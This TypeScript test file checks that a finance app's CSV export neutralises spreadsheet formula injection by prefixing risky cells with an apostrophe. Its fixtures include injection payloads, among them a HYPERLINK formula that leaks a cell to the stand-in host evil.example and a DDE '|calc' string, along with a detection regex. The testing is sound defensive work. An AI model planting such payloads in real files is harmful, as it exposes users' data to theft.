import 'fake-indexeddb/auto';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import {
  applyRestore,
  checkCsv,
  exportEntriesCsv,
  exportPaymentsCsv,
  importCsv,
  previewCsv,
  readBackupFile,
  readCsvFile,
} from '../../src/lib/db/backup';
import { serializeBackup } from '../../src/lib/db/backup/backup-format';
import { CSV_COLUMNS } from '../../src/lib/db/backup/csv-format';
import type { AnyamDatabase } from '../../src/lib/db/database';
import { addEntries, listRollups } from '../../src/lib/db/repo';
import type { Entry, HouseholdTables, Rollup } from '../../src/lib/domain/model';
import { householdFactory } from '../factories';
import { dropDatabase, expectRollupsConsistent, freshDatabase, seedBasics } from './helpers';

const META = { exportedAt: '2026-11-02T00:00:00.000Z', app: { name: 'Anyam', version: 'test' } };
const opened: AnyamDatabase[] = [];
afterAll(async () => {
  for (const db of opened) await dropDatabase(db);
});
function database(label: string): AnyamDatabase {
  const db = freshDatabase(label);
  opened.push(db);
  return db;
}

const NASTY_NOTES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")',
  '+62 812 555 0101',
  '-10% discount from the boss',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted by hand",
  "'plain apostrophe",
  'comma, "quotes" and\na line break',
  'Nguyễn đã trả 50.000₫',
  '  spaces around  ',
  // Issue 24: a space before the sign, the DDE pipe, fullwidth signs.
  ' =1+1',
  '|calc!A0',
  '\uFF1D1+1',
  '\u3000\uFF20SUM(A1)',
];

describe('CSV export', () => {
  it('opens formula-like notes as text: the cell starts with an apostrophe', async () => {
    database('csv-export-guard');
    const h = await seedBasics();
    await addEntries(
      NASTY_NOTES.map((note, i) => ({
        streamId: h.usd.id,
        date: `2025-09-${String(i + 1).padStart(2, '0')}`,
        amountMinor: 1_000 + i,
        note,
      })),
    );
    const file = await exportEntriesCsv({ now: new Date('2025-10-01T12:00:00Z') });
    expect(file.filename).toBe('anyam-test-entries-2025-10-01.csv');
    expect(file.text.startsWith('\uFEFFmember,stream,kind,platform,date,amount')).toBe(true);
    expect(file.text.split('\r\n')).toHaveLength(NASTY_NOTES.length + 2);

    const parsed = Papa.parse<string[]>(file.text.slice(1), { skipEmptyLines: true }).data;
    const header = parsed[0]!;
    expect(header).toEqual([...CSV_COLUMNS]);
    const notes = parsed.slice(1).map((row) => row[header.indexOf('note')]);
    expect(notes).toEqual([
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")`,
      "'+62 812 555 0101",
      "'-10% discount from the boss",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      "'\r=1+1",
      "''=already quoted by hand",
      "'plain apostrophe",
      'comma, "quotes" and\na line break',
      'Nguyễn đã trả 50.000₫',
      '  spaces around  ',
      "' =1+1",
      "'|calc!A0",
      "'\uFF1D1+1",
      "'\u3000\uFF20SUM(A1)",
    ]);
    // Every cell of every row, not only notes: none starts a formula, even past spaces.
    for (const row of parsed) {
      for (const cell of row) {
        expect(cell.replace(/^\s+/, '')).not.toMatch(/^[=+\-@|\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
      }
    }
    const usd = parsed.slice(1).map((row) => row.slice(5, 9));
    // 10 USD at the rate in force from 2025-07-01 (16250.5).
    expect(usd[0]).toEqual(['10.00', 'USD', '162505.00', 'IDR']);
  });

  it('leaves the base amount empty, never 0, when no rate is in force', async () => {
    database('csv-export-missing-rate');
    const h = await seedBasics();
    // The first USD rate starts 2025-01-01.
    await addEntries([{ streamId: h.usd.id, date: '2024-12-31', amountMinor: 500 }]);
    const { text } = await exportEntriesCsv();
    const row = Papa.parse<string[]>(text.slice(1)).data[1]!;
    expect(row.slice(4, 9)).toEqual(['2024-12-31', '5.00', 'USD', '', '']);
  });
});

function uniqueStreamNames(tables: HouseholdTables): HouseholdTables {
  // Import finds a stream by member and name: two streams of one member with one name would be
  // ambiguous (the import says so, csv/ambiguous-stream), which is not what this test is about.
  tables.streams.forEach((s, i) => (s.name = `${s.name} ${i + 1}`));
  return tables;
}

type Comparable = Omit<Entry, 'id' | 'createdAt' | 'updatedAt'>;
function comparable(entries: Entry[]): Comparable[] {
  return entries
    .filter((e) => e.deletedAt === null)
    .map(({ id: _id, createdAt: _c, updatedAt: _u, ...rest }) => rest)
    .sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));
}
function withoutKeys(rollups: Rollup[]) {
  return [...rollups].sort((a, b) => a.key.localeCompare(b.key));
}

describe('CSV export → import round trip', () => {
  it('reproduces the entries and the rollups', async () => {
    const tables = uniqueStreamNames(
      householdFactory.build({
        seed: 5,
        months: 6,
        entriesPerMonth: 60,
        currencies: ['PHP', 'USD', 'IDR'],
      }),
    );
    tables.entries.forEach((e, i) => {
      if (i < NASTY_NOTES.length) e.note = NASTY_NOTES[i]!;
      if (i % 13 === 5) e.deletedAt = e.updatedAt;
    });

    const source = database('csv-roundtrip-source');
    await applyRestore(await readBackupFile(serializeBackup(tables, META)), 'replace');
    const exported = await exportEntriesCsv({ chunkSize: 50 });
    const sourceEntries = await source.entries.toArray();
    const sourceRollups = await listRollups();

    // The same household without its entries, then the CSV imported into it.
    const target = database('csv-roundtrip-target');
    await applyRestore(
      await readBackupFile(serializeBackup({ ...tables, entries: [] }, META)),
      'replace',
    );
    const text = await readCsvFile(new Blob([exported.text]));
    const preview = previewCsv(text);
    const report = await checkCsv(text, {
      mapping: preview.guessedMapping,
      dateFormat: 'YYYY-MM-DD',
      decimalSeparator: '.',
    });
    expect(report.errors).toEqual([]);
    expect(report.readyRows).toBe(exported.rows);
    await importCsv(report);

    expect(comparable(await target.entries.toArray())).toEqual(comparable(sourceEntries));
    expect(withoutKeys(await listRollups())).toEqual(withoutKeys(sourceRollups));
    await expectRollupsConsistent(target);
  });
});

describe('CSV export of payments', () => {
  it('lists every live payment with its plan, guarded against formulas, in base currency when a rate is known', async () => {
    database('csv-payments');
    const tables = householdFactory.build({ seed: 5, months: 3, entriesPerMonth: 5 });
    const plan = tables.plans[0]!;
    const first = tables.payments.find((p) => p.planId === plan.id)!;
    first.note = '=HYPERLINK("http://evil.example")';
    tables.payments[1]!.deletedAt = tables.payments[1]!.updatedAt;
    await applyRestore(await readBackupFile(serializeBackup(tables, META)), 'replace');
    const file = await exportPaymentsCsv({ now: new Date('2026-11-02T08:00:00Z') });
    expect(file.filename).toMatch(/-payments-2026-11-02\.csv$/);
    expect(file.text.startsWith('\uFEFF')).toBe(true);
    const parsed = Papa.parse<Record<string, string>>(file.text.slice(1), { header: true });
    const live = tables.payments.filter((p) => p.deletedAt === null);
    expect(file.rows).toBe(live.length);
    expect(parsed.data.filter((r) => r.plan !== undefined && r.plan !== '')).toHaveLength(
      live.length,
    );
    const row = parsed.data.find((r) => r.note?.includes('HYPERLINK'))!;
    expect(row.note).toBe(`'${first.note}`);
    expect(row).toMatchObject({ plan: plan.name, due_on: first.dueOn, currency: first.currency });
    expect(row.base_currency).toBe(tables.settings[0]!.baseCurrency);
  });
});
